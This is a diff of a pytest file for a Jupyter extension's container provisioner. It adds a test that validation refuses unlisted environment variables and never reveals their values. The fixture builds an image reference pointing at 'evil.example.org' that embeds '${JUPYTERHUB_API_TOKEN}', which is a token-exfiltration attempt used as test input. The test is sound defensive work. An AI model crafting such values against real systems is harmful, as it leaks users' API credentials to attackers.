@@ -23,7 +23,12 @@ def jp_server_config(tmp_path: Path) -> dict[str, Any]:
     return {
         "ServerApp": {"jpserver_extensions": {"jupyter_asgard": True}},
         "AsgardSite": {"image_dirs": [str(images)], "registry_images": []},
-        "PyxisProvisioner": {"max_gpus": 2, "mounts": ["/ds:/ds:ro"], "check_paths": False},
+        "PyxisProvisioner": {
+            "max_gpus": 2,
+            "mounts": ["/ds:/ds:ro"],
+            "check_paths": False,
+            "expandable_variables": ["ASGARD_TEST_PROJECT"],
+        },
     }
 
 
@@ -68,6 +73,25 @@ async def test_validate_refuses_with_the_problem_named(jp_fetch: Any, body: byte
     status, answer = await refused(jp_fetch, "validate", method="POST", body=body)
     assert status == 400
     assert any(words in problem for problem in answer["problems"]), answer
+
+
+async def test_validate_names_a_variable_the_site_does_not_list_and_never_shows_its_value(
+    jp_fetch: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    secret = "hub-token-5e1f"
+    monkeypatch.setenv("JUPYTERHUB_API_TOKEN", secret)
+    monkeypatch.setenv("ASGARD_TEST_PROJECT", "vision")
+    body = {
+        "image": "docker://evil.example.org#x/${JUPYTERHUB_API_TOKEN}:latest",
+        "mounts": ["/netscratch/$JUPYTERHUB_API_TOKEN:/data"],
+        "workdir": "/w/$ASGARD_TEST_PROJECT",  # listed by the site: expanded, no problem
+    }
+    status, answer = await refused(jp_fetch, "validate", method="POST", body=json.dumps(body).encode())
+    assert status == 400
+    unlisted = [problem for problem in answer["problems"] if "$JUPYTERHUB_API_TOKEN is not a variable" in problem]
+    assert len(unlisted) == 2 and all("c.PyxisProvisioner.expandable_variables" in p for p in unlisted), answer
+    assert not [problem for problem in answer["problems"] if "ASGARD_TEST_PROJECT" in problem], answer
+    assert secret not in json.dumps(answer)
 
 
 async def test_no_kernels_no_jobs_and_a_monitor_that_does_not_poll(jp_fetch: Any) -> None:
